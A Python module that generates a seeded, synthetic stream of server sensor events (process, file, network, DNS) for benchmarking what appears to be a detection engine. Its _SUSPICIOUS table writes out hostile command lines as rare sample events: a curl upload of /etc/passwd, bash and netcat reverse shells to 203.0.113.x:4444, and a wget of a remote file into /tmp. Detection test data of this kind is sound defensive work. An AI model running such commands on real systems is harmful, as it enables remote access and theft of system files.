"""A stream of events like a busy server's, the same on every machine: what the benchmarks feed on.

Programs, files and peers come from tables with the skew of real hosts (a few are most of the
stream, with a long tail), arguments vary with numbers and names, about one event in 2,000 is what
public rules look for. A recording of a real machine is better; ``make bench ARGS='--recording
FILE'`` takes one.
"""

from __future__ import annotations

import os
import random
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import orjson
import zstandard

VERSION = 2  # of the stream; part of the name of the cached file
_SEED = 20261121

#: Share of each kind of event, in percent.
MIX = (("process_exec", 16), ("file_read", 34), ("file_write", 18), ("file_rename", 3), ("file_unlink", 4),
       ("network_connect", 5), ("network_accept", 3), ("dns_query", 3), ("process_fork", 7), ("process_exit", 7))

#: Program, parent, user, argument lists. Earlier rows are more frequent.
_PROGRAMS: tuple[tuple[str, str, str, tuple[str, ...]], ...] = (
    ("/usr/bin/dash", "/usr/sbin/cron", "root", ("-c test -x /usr/sbin/anacron", "-c /opt/app/bin/poll {n}")),
    ("/usr/bin/sed", "/usr/bin/bash", "app", ("-e s/{w}/{w}/g {f}", "-n 1p {f}", "-i /{w}/d /srv/app/{w}.conf")),
    ("/usr/lib/gcc/x86_64-linux-gnu/12/cc1", "/usr/bin/gcc", "build",
     ("-quiet -I include src/{w}.c -O2 -o /tmp/cc{x}.s", "-quiet lib/{w}.c -g -o /tmp/cc{x}.s")),
    ("/usr/bin/as", "/usr/bin/gcc", "build", ("--64 -o {w}.o /tmp/cc{x}.s",)),
    ("/usr/bin/git", "/usr/bin/bash", "build", ("status --porcelain", "fetch origin {w}", "log -n {n} --oneline")),
    ("/usr/bin/grep", "/usr/bin/bash", "app", ("-q {w} {f}", "-rn {w} /srv/app", "-E ^{w}= /etc/app.conf")),
    ("/usr/bin/python3.11", "/usr/lib/systemd/systemd", "app", ("-m app.worker --queue {w} --id {n}",
                                                                "/srv/app/manage.py {w} --limit {n}")),
    ("/usr/bin/cat", "/usr/bin/bash", "app", ("{f}", "/proc/{n}/stat", "/sys/class/net/eth0/mtu")),
    ("/usr/bin/date", "/usr/bin/dash", "root", ("+%s", "-u +%FT%TZ")),
    ("/usr/bin/ls", "/usr/bin/bash", "admin", ("-la /srv/app/{w}", "/var/log", "-1 /home/admin")),
    ("/usr/bin/mkdir", "/usr/bin/make", "build", ("-p build/{w}", "-p /srv/app/cache/{n}")),
    ("/usr/bin/rm", "/usr/bin/make", "build", ("-f build/{w}.o", "-rf /srv/app/cache/{n}")),
    ("/usr/bin/curl", "/usr/bin/dash", "app", ("-fsS http://127.0.0.1:8080/health",
                                               "-s https://api.example.com/v1/{w}/{n}")),
    ("/usr/sbin/logrotate", "/usr/bin/dash", "root", ("/etc/logrotate.conf",)),
    ("/usr/bin/systemctl", "/usr/bin/bash", "root", ("is-active {w}.service", "show -p MainPID {w}.service")),
    ("/usr/bin/tar", "/usr/bin/bash", "backup", ("-czf /srv/backup/{w}-{n}.tgz /srv/app/{w}",)),
    ("/usr/bin/ssh", "/usr/bin/bash", "admin", ("-o BatchMode=yes host{n}.example.com uptime",)),
    ("/usr/bin/find", "/usr/bin/bash", "backup", ("/srv/app -name *.{w} -mtime +{n}",)),
    ("/usr/bin/apt-get", "/usr/bin/bash", "root", ("-qq update", "install -y {w}")),
    ("/usr/bin/perl", "/usr/bin/dpkg", "root", ("/usr/bin/debconf-communicate {w}",)),
    ("/usr/bin/docker", "/usr/bin/bash", "admin", ("ps -q", "inspect {x}{x}")),
    ("/usr/sbin/sshd", "/usr/sbin/sshd", "root", ("-D -R",)),
    ("/usr/bin/sudo", "/usr/bin/bash", "admin", ("systemctl restart {w}.service",)),
    ("/usr/bin/bash", "/usr/sbin/sshd", "admin", ("-l", "-c uptime")),
)

_SUSPICIOUS = (
    ("/usr/bin/curl", "/usr/sbin/apache2", "www-data", "-F file=@/etc/passwd https://transfer.example.org/{x}"),
    ("/usr/bin/base64", "/usr/bin/bash", "app", "-d /tmp/{x}"),
    ("/usr/bin/bash", "/usr/bin/python3.11", "app", "-i >& /dev/tcp/203.0.113.{n}/4444 0>&1"),
    ("/usr/bin/crontab", "/usr/bin/bash", "app", "-r"),
    ("/usr/bin/chattr", "/usr/bin/bash", "root", "-i /etc/{w}"),
    ("/usr/bin/uname", "/usr/bin/bash", "app", "-a"),
    ("/usr/bin/nc", "/usr/bin/bash", "app", "-e /bin/sh 203.0.113.{n} 4444"),
    ("/dev/shm/{x}", "/usr/bin/bash", "app", "--quiet"),
    ("/usr/bin/wget", "/usr/bin/bash", "app", "-q https://files.example.org/{w} -O /tmp/{x}"),
)
_SUSPICIOUS_SHARE = 0.003  # of execs

_READ = ("/etc/ld.so.cache", "/usr/lib/x86_64-linux-gnu/libc.so.6", "/etc/passwd", "/proc/{n}/status", "/proc/meminfo",
         "/usr/lib/python3.11/{w}.py", "/srv/app/{w}/{w}.json", "/etc/resolv.conf", "/usr/share/zoneinfo/UTC",
         "/srv/app/static/{w}-{x}.js", "/home/admin/.bashrc", "/sys/fs/cgroup/system.slice/{w}.service/memory.stat")
_WRITTEN = ("/tmp/cc{x}.s", "/var/log/app/{w}.log", "/srv/app/cache/{n}/{x}", "/home/build/src/build/{w}.o",
            "/dev/null", "/var/lib/postgresql/15/main/base/{n}/{n}", "/var/lib/dpkg/{w}-new", "/etc/cron.d/{w}")
_WORDS = ("alpha", "backup", "cache", "config", "daemon", "export", "fetch", "graph", "handler", "index", "journal",
          "kernel", "logger", "mailer", "network", "output", "parser", "queue", "report", "session", "table", "update",
          "view", "worker", "xml", "yield", "zone", "auth", "billing", "customer", "delivery", "event")
_IDS = {"root": 0, "admin": 1000, "build": 1001, "app": 999, "backup": 34, "www-data": 33}


class _Stream:
    """The state of one stream."""

    def __init__(self, seed: int) -> None:
        self._random = random.Random(seed)
        self._kinds = [kind for kind, share in MIX for _ in range(share)]
        self._number = 0

    def next(self) -> dict[str, Any]:
        """One document."""
        pick = self._random.random
        kind = self._kinds[int(pick() * 100)]
        suspicious = kind == "process_exec" and pick() < _SUSPICIOUS_SHARE
        if suspicious:
            executable, parent, user, arguments = self._random.choice(_SUSPICIOUS)
        else:
            executable, parent, user, choices = self._skewed(_PROGRAMS)
            arguments = choices[int(pick() * len(choices))]
        if kind in ("file_read", "file_write"):
            found = self._base("file_open", executable, parent, user, arguments)
            self._open(found, written=kind == "file_write")
            return found
        found = self._base(kind, executable, parent, user, arguments)
        if kind in ("file_rename", "file_unlink"):
            self._path(found, self._fill(self._skewed(_WRITTEN)))
        elif kind.startswith("network"):
            self._network(found, kind)
        elif kind == "dns_query":
            found["dns"] = {"question": {"name": self._fill("{w}.example.com"), "type": "A"}}
        return found

    def _skewed(self, table: tuple[Any, ...]) -> Any:
        """A row, the first ones far more often: the product of two draws is small."""
        return table[int(self._random.random() * self._random.random() * len(table))]

    def _fill(self, template: str) -> str:
        pick = self._random.random
        while "{w}" in template:
            template = template.replace("{w}", _WORDS[int(pick() * pick() * len(_WORDS))], 1)
        while "{n}" in template:
            template = template.replace("{n}", str(int(pick() * pick() * 200)), 1)
        while "{x}" in template:
            template = template.replace("{x}", f"{self._random.getrandbits(32):08x}", 1)
        return template.replace("{f}", "/srv/app/data.txt")

    def _base(self, kind: str, executable: str, parent: str, user: str, arguments: str) -> dict[str, Any]:
        self._number += 1
        number, pick = self._number, self._random.random
        executable = self._fill(executable)
        name = executable.rpartition("/")[2]
        line = f"{name} {self._fill(arguments)}".strip()
        category = {"f": "file", "n": "network", "d": "network"}.get(kind[0], "process")
        pid = 1000 + int(pick() * 30_000)
        return {
            "@timestamp": f"2026-11-21T10:{number // 60_000_000 % 60:02}:{number // 1_000_000 % 60:02}"
                          f".{number % 1_000_000:06}000Z",
            "event": {"id": f"0a1b2c3d4e5f-0-{number % 4}-{number}", "kind": "event", "category": [category],
                      "type": ["start"], "action": kind.replace("_", "-"), "dataset": f"sensor.{kind}",
                      "sequence": number},
            "process": {"pid": pid, "entity_id": f"{self._random.getrandbits(64):016x}", "executable": executable,
                        "name": name, "args": line.split(" "), "command_line": line, "working_directory": "/srv/app",
                        "start": "2026-11-21T09:59:58.123456789Z",
                        "parent": {"pid": pid - 1, "entity_id": f"{self._random.getrandbits(64):016x}",
                                   "executable": parent, "name": parent.rpartition("/")[2], "command_line": parent}},
            "user": {"id": str(_IDS[user]), "name": user, "effective": {"id": _IDS[user], "group": {"id": _IDS[user]}}},
            "sensor": {"cpu": number % 4, "cgroup": {"id": 4242}},
        }

    def _open(self, found: dict[str, Any], *, written: bool) -> None:
        self._path(found, self._fill(self._skewed(_WRITTEN if written else _READ)))
        found["event"]["type"] = ["change" if self._random.random() < 0.5 else "creation"] if written else ["access"]
        if written:
            found["sensor"]["flags"] = ["write"]
        found["file"] |= {"inode": self._random.getrandbits(22), "device": 265_289_728, "mode": "100644", "uid": 0}

    def _path(self, found: dict[str, Any], path: str) -> None:
        folder, _, name = path.rpartition("/")
        found["file"] = {"path": path, "directory": folder, "name": name}

    def _network(self, found: dict[str, Any], kind: str) -> None:
        out, pick = kind == "network_connect", self._random.random
        peer = {"ip": f"10.0.{int(pick() * pick() * 8)}.{int(pick() * 250)}" if pick() < 0.9 else "203.0.113.9",
                "port": (443, 5432, 8080, 53, 80, 6379)[int(pick() * pick() * 6)]}
        own = {"ip": "10.0.0.5", "port": 32768 + int(pick() * 28_000)}
        found |= {"source": own if out else peer, "destination": peer if out else own}
        found["network"] = {"transport": "tcp", "type": "ipv4", "initiated": out,
                            "direction": "egress" if out else "ingress"}


def documents(count: int, seed: int = _SEED) -> Iterator[dict[str, Any]]:
    """The first *count* documents of the stream."""
    stream = _Stream(seed)
    for _ in range(count):
        yield stream.next()


def cached(count: int, folder: Path) -> Path:
    """A file of JSON lines (zstd) with *count* documents, made once and kept in *folder*."""
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / f"events-v{VERSION}-{count}.jsonl.zst"
    if not path.exists():
        partial = path.with_suffix(f".{os.getpid()}")
        with partial.open("wb") as file, zstandard.ZstdCompressor(3).stream_writer(file) as stream:
            for document in documents(count):
                stream.write(orjson.dumps(document) + b"\n")
        partial.rename(path)
    return path
